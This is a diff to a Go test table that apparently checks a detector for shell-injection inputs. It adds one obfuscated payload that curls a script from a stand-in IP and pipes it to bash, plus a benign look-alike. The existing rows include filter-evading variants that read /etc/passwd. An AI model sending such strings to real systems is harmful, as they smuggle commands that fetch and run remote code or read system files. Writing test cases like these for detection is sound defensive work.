@@ -457,6 +457,8 @@ func TestEvidenceShapes(t *testing.T) {
 		{"example.com;c'a't /e't'c/pa\"ss\"wd", true},
 		{"site-backup;a=c;b=at;$a$b /etc/hostname", true},
 		{"x;/???/??t /???/p??s??", true},
+		{"example.com;{curl,-s,http://203.0.113.5/x.sh}|{bash,-i}", true},
+		{"fields=id,name;friends={id,name}", false},
 		{"rock'n'roll tour 2024", false},
 		{"Is it really? ???", false},
 		// A lone ampersand between English words is prose, even when the
